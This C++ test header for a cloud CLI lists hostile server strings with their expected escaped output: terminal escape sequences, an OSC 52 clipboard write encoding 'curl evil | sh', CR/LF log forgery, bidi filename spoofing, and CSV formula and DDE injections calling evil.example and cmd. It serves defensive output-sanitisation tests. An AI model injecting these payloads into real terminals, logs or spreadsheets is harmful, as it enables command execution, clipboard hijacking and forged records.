#pragma once

// Text a hostile server sends to take over a terminal, a spreadsheet or a log, with how each must
// show: the one table that the tests of the library's log and last error and the tests of every
// output path of cloudstack-cli go through.

#include <locale.h>

#include <cwchar>
#include <string>
#include <vector>

namespace cstest {

struct HostileText {
    const char* what;
    std::string text;   // as the server sends it
    std::string shown;  // on a terminal, in a log line, in the last error
    std::string csv;    // in a CSV cell, before RFC 4180 quoting
    bool json;          // valid UTF-8, so it can travel inside a JSON answer
    bool header;        // no CR or LF, so it can travel in an HTTP header line
};

inline const std::vector<HostileText>& HostileTexts() {
    static const std::vector<HostileText> table = [] {
        struct Row {
            const char* what;
            std::string text;
            std::string shown;
            std::string csv;  // empty: as shown
        };
        const std::vector<Row> rows = {
            {"ESC sequences", "\x1b[2J\x1b[1;31mred", "\\x1b[2J\\x1b[1;31mred", ""},
            {"OSC 52 writes the clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
             "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07", ""},
            {"BEL", "ding\x07", "ding\\x07", ""},
            {"CR and LF forge a line", "\rERROR forged: password accepted\n",
             "\\x0dERROR forged: password accepted\\x0a", "'\\x0dERROR forged: password accepted\\x0a"},
            {"backspace", "web\b\b\bdb-01", "web\\x08\\x08\\x08db-01", ""},
            {"DEL", "del\x7f", "del\\x7f", ""},
            {"U+009B, a terminal's CSI", "\u009b2J", "\\u009b2J", ""},
            {"U+202E reverses what follows", "invoice-\u202efdp.exe", "invoice-\\u202efdp.exe", ""},
            {"U+2066 isolate", "\u2066x\u2069", "\\u2066x\\u2069", ""},
            {"invalid UTF-8", "bad\xff\xe2\x80x\xc3", "bad\ufffd\ufffdx\ufffd", ""},
            {"formula =", "=HYPERLINK(\"http://evil.example/\",\"x\")", "=HYPERLINK(\"http://evil.example/\",\"x\")",
             "'=HYPERLINK(\"http://evil.example/\",\"x\")"},
            {"formula +", "+1+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
            {"formula -", "-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
            {"formula @", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
            {"formula after a tab", "\t=1+2", "\\x09=1+2", "'\\x09=1+2"},
            // A plain number stays a number; anything more is guarded.
            {"negative number", "-12.5", "-12.5", ""},
            {"signed integer", "+3", "+3", ""},
            {"number with exponent", "-1.5e-05", "-1.5e-05", ""},
            {"a lone sign", "-", "-", "'-"},
            {"no digit before the point", "-.5", "-.5", "'-.5"},
            {"no digit after the point", "-12.", "-12.", "'-12."},
            {"no digit in the exponent", "-1e", "-1e", "'-1e"},
            {"two signs", "--1", "--1", "'--1"},
            {"hexadecimal", "-0x1F", "-0x1F", "'-0x1F"},
            {"a blank after the number", "-12.5 ", "-12.5 ", "'-12.5 "},
        };
        std::vector<HostileText> texts;
        for (const Row& row : rows) {
            const bool json = row.what != std::string("invalid UTF-8");
            const bool header = row.text.find_first_of("\r\n") == std::string::npos;
            texts.push_back({row.what, row.text, row.shown, row.csv.empty() ? row.shown : row.csv, json, header});
        }
        return texts;
    }();
    return table;
}

// Where @p text holds something no terminal or log line may receive from a server: a byte that is
// not UTF-8 (read with the C library's own decoder), a C0 control other than the line ends in
// @p allowed, DEL, a C1 control or a bidi control. @return its byte offset; npos when there is none
inline std::size_t FirstUnsafe(const std::string& text, const std::string& allowed = "") {
    const locale_t utf8 = newlocale(LC_CTYPE_MASK, "C.UTF-8", static_cast<locale_t>(nullptr));
    const locale_t previous = uselocale(utf8);
    std::mbstate_t state{};
    std::size_t found = std::string::npos;
    for (std::size_t at = 0; at < text.size();) {
        wchar_t c = 0;
        const std::size_t length = std::mbrtowc(&c, text.data() + at, text.size() - at, &state);
        const auto code = static_cast<unsigned long>(c);
        const bool control = length != 0 && length <= 4 &&
                             ((code < 0x20 && allowed.find(static_cast<char>(code)) == std::string::npos) ||
                              (code >= 0x7F && code <= 0x9F) || (code >= 0x202A && code <= 0x202E) ||
                              (code >= 0x2066 && code <= 0x2069));
        if (length == 0 || length > 4 || control) {
            found = at;
            break;
        }
        at += length;
    }
    uselocale(previous);
    freelocale(utf8);
    return found;
}

}  // namespace cstest
